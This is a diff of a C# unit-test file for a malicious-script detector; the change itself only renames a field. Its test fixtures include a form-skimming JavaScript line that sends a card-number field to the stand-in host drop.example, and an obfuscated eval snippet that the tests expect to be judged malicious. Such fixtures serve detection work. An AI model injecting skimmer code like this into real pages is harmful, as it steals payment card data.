@@ -17,7 +17,7 @@ public sealed class DecoderTests
         "document.forms[0].onsubmit=function(){new Image().src='https://drop.example/x.gif?c='+document.querySelector('#cc-number').value};";
     private const string Honest = "document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(location.href)};";
 
-    private static readonly ScriptJudge _judge = new();
+    private static readonly ScriptJudge Judge = new();
 
     public static TheoryData<string> Loops =>
     [
@@ -96,7 +96,7 @@ public sealed class DecoderTests
             <script>c="construct";c+="or";e="eval(String.fromCharCode.apply(null,";e+="document.getElementById('q')";e+=".innerHTML.split(';')))";[][c][c](e)();</script>
             """;
 
-        var judgement = _judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
 
         Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
         Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("drop.example", StringComparison.Ordinal));
@@ -188,7 +188,7 @@ public sealed class DecoderTests
         Assert.NotEqual(first.Split('|')[5], first.Split('|')[6]);
     }
 
-    private static VerdictKind VerdictOf(string source) => _judge.Judge(new ScriptToJudge { Source = source }).Verdict;
+    private static VerdictKind VerdictOf(string source) => Judge.Judge(new ScriptToJudge { Source = source }).Verdict;
 
     private static string Hex(string text) => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(text));
 }
